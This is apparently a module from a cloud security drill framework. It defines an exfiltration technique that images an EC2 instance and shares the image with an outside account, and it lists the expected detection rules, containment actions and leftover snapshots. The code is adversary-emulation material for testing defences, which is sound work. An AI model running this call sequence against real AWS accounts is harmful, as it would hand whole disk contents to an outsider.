"""An image of a machine is made and shared with another account, with all that lies on its disks. The image goes; the
snapshots that were made for it stay, shared with nobody (`deregister_image`).
"""

from unleak.drill.documents import STRANGER
from unleak.drill.moves import call, notes
from unleak.drill.technique import LEAVES, Technique, Traces
from unleak.drill.techniques.command_on_a_machine import prepare

TECHNIQUE = Technique(
    id="image_shared",
    title="An image of a machine shared",
    attack=("T1537", "T1074.002"),
    prepare=prepare,
    moves=(
        call("ec2:DescribeInstances", then=notes("instance", "Reservations", 0, "Instances", 0, "InstanceId")),
        call("ec2:CreateImage", then=notes("image", "ImageId"), InstanceId="{instance}", Name="copy"),
        call("ec2:ModifyImageAttribute", ImageId="{image}", LaunchPermission={"Add": [{"UserId": STRANGER}]}),
    ),
    seen=Traces(rules=("snapshot-created", "image-shared"), things=("EC2::Image",)),
    stopped_by=("attach_quarantine", "revoke_user_sessions", "deactivate_key"),
    leaves=("image",),
    lost=("snapshot",),
    by_hand=("the snapshots of image",),
    only_standin=LEAVES,
)
